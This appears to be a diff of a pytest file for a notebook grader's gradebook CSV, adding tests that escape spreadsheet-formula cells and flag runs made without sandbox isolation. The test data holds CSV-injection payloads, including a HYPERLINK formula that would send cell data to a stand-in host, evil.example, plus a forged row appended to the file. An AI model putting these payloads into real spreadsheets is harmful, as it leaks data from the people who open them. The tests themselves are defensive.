@@ -1,4 +1,5 @@
-"""The gradebook CSV: rows on disk as soon as written, resume, names that stay one printable line."""
+"""The gradebook CSV: rows on disk as soon as written, resume, names that stay one printable line, cells no
+spreadsheet runs, and a gradebook that says when learner code could have written into it."""
 import csv
 import os
 import subprocess
@@ -6,7 +7,7 @@ import sys
 
 import pytest
 
-from fixtures.grading.builders import (NAMES, TEMPLATE, answered, edited, write)
+from fixtures.grading.builders import BATCH_FLAGS, NAMES, TEMPLATE, answered, edited, gradebook_rows, write
 from instructor_tools.grading.cli import main
 from instructor_tools.grading.grader import grade_submission
 
@@ -25,9 +26,13 @@ def feedback(verdict):
     return [e["feedback"] for e in verdict["exercises"]]
 
 
-def a_verdict(score=3.0, error=None):
+HEADER = ("file,score,max_score,initialize_parameters_zeros,initialize_parameters_random,initialize_parameters_he,"
+          "rules,error,isolation")
+
+
+def a_verdict(score=3.0, error=None, isolation="bubblewrap: ..."):
     return {"score": score, "max_score": 3.0, "error": error, "violations": [{"rule": "extra-cell"}],
-            "exercises": [{"name": n, "score": 1.0} for n in NAMES]}
+            "exercises": [{"name": n, "score": 1.0} for n in NAMES], "isolation": isolation}
 
 
 def test_each_row_is_on_disk_as_soon_as_it_is_written(tmp_path):
@@ -36,9 +41,7 @@ def test_each_row_is_on_disk_as_soon_as_it_is_written(tmp_path):
     path = tmp_path / "gradebook.csv"
     book = Gradebook(path, NAMES)
     book.write("a.ipynb", a_verdict(error="line one\nline two"))
-    assert path.read_text().splitlines() == [
-        "file,score,max_score,initialize_parameters_zeros,initialize_parameters_random,initialize_parameters_he,rules,error",
-        "a.ipynb,3,3,1,1,1,extra-cell,line one line two"]
+    assert path.read_text().splitlines() == [HEADER, "a.ipynb,3,3,1,1,1,extra-cell,line one line two,isolated"]
     book.close()
 
 
@@ -54,7 +57,7 @@ def test_resume_drops_a_row_cut_off_mid_write_and_lists_the_rest(tmp_path):
     with Gradebook(path, NAMES, resume=True) as book:
         assert book.done == {"a.ipynb", "b.ipynb"}
         book.write("c.ipynb", a_verdict(score=2.0))
-    assert path.read_text() == whole + "c.ipynb,2,3,1,1,1,extra-cell,\n"
+    assert path.read_text() == whole + "c.ipynb,2,3,1,1,1,extra-cell,,isolated\n"
 
 
 def test_an_existing_gradebook_is_never_replaced_silently(tmp_path):
@@ -94,13 +97,65 @@ def test_two_files_whose_names_look_alike_keep_a_row_each_and_resume(tmp_path):
     write(folder, answered(), b"caf\xe9.ipynb")
     write(folder, edited(NAMES[1], "np.random.seed(3)", "np.random.seed(4)"), "caf\\xe9.ipynb")  # a real backslash
     gradebook = tmp_path / "gradebook.csv"
-    assert main([str(folder), "--csv", str(gradebook), "--timeout", "30"]) == 0
-    rows = {row["file"]: row["score"] for row in csv.DictReader(gradebook.open(encoding="utf-8"))}
+    assert main([str(folder), "--csv", str(gradebook), "--timeout", "30"] + BATCH_FLAGS) == 0
+    rows = {name: row["score"] for name, row in gradebook_rows(gradebook).items()}
     assert rows == {"caf\\xe9.ipynb": "3", "caf\\\\xe9.ipynb": "2"}
     lines = gradebook.read_text(encoding="utf-8").splitlines(True)
     gradebook.write_text("".join(line for line in lines if not line.startswith("caf\\\\")), encoding="utf-8")
-    done = subprocess.run(GRADE + [str(folder), "--csv", str(gradebook), "--resume", "--timeout", "30"],
+    done = subprocess.run(GRADE + [str(folder), "--csv", str(gradebook), "--resume", "--timeout", "30"] + BATCH_FLAGS,
                           capture_output=True, text=True, cwd=ROOT)
     assert done.returncode == 0 and "Graded 1 notebook(s)" in done.stdout and "1 already in the gradebook" in done.stdout
-    rows = {row["file"]: row["score"] for row in csv.DictReader(gradebook.open(encoding="utf-8"))}
+    rows = {name: row["score"] for name, row in gradebook_rows(gradebook).items()}
     assert rows == {"caf\\xe9.ipynb": "3", "caf\\\\xe9.ipynb": "2"}
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote_and_resume_reads_them_back(tmp_path):
+    from instructor_tools.grading import Gradebook
+
+    path = tmp_path / "gradebook.csv"
+    names = ["=cmd.ipynb", "+1.ipynb", "-2.ipynb", "@sum.ipynb", "'quoted.ipynb", "plain.ipynb"]
+    with Gradebook(path, NAMES) as book:
+        for name in names:
+            book.write(name, a_verdict(error='=HYPERLINK("http://evil.example/?"&A1,"click")'))
+        book.write("tab.ipynb", a_verdict(error="\tcell"))
+    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))[1:]
+    assert [row[0] for row in rows] == ["'=cmd.ipynb", "'+1.ipynb", "'-2.ipynb", "'@sum.ipynb", "''quoted.ipynb",
+                                        "plain.ipynb", "tab.ipynb"]
+    assert {row[-2] for row in rows[:-1]} == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"}
+    assert rows[-1][-2] == "cell"  # whitespace is folded into single spaces, so no cell starts with a tab
+    for value in ["\tx", "\rx", "'x"]:
+        from instructor_tools.grading.gradebook import from_spreadsheet, spreadsheet_safe
+
+        assert spreadsheet_safe(value) == "'" + value and from_spreadsheet(spreadsheet_safe(value)) == value
+    with Gradebook(path, NAMES, resume=True) as book:
+        assert book.done == set(names) | {"tab.ipynb"}
+
+
+def test_an_unisolated_run_marks_the_gradebook_before_any_learner_code_and_resume_needs_isolation_off(tmp_path):
+    from instructor_tools.grading import Gradebook
+    from instructor_tools.grading.gradebook import GradebookError
+
+    path = tmp_path / "gradebook.csv"
+    with Gradebook(path, NAMES, isolated=False) as book:
+        marker = path.read_text().splitlines()[1]
+        assert marker.startswith(",,,,,,,") and marker.endswith(",NOT ISOLATED")
+        book.write("a.ipynb", a_verdict(isolation="NOT ISOLATED: turned off"))
+    with open(path, "a", encoding="utf-8") as handle:  # what a submission with your rights can append
+        handle.write("evil.ipynb,3,3,1,1,1,,,isolated\n")
+    with pytest.raises(GradebookError, match="written with --isolation off.*add --isolation off"):
+        Gradebook(path, NAMES, resume=True)
+    with Gradebook(path, NAMES, resume=True, isolated=False) as book:  # the instructor accepts the risk again
+        assert book.done == {"a.ipynb", "evil.ipynb"}
+    assert path.read_text().count(",NOT ISOLATED\n") == 3  # a second marker for the second run
+
+
+def test_an_isolated_gradebook_resumes_and_says_isolated_on_every_row(tmp_path):
+    from instructor_tools.grading import Gradebook
+
+    path = tmp_path / "gradebook.csv"
+    with Gradebook(path, NAMES) as book:
+        book.write("a.ipynb", a_verdict())
+        book.write("b.ipynb", a_verdict(isolation=None, error="b.ipynb is not a notebook"))
+    with Gradebook(path, NAMES, resume=True) as book:
+        assert book.done == {"a.ipynb", "b.ipynb"}
+    assert [row["isolation"] for row in csv.DictReader(path.open())] == ["isolated", ""]
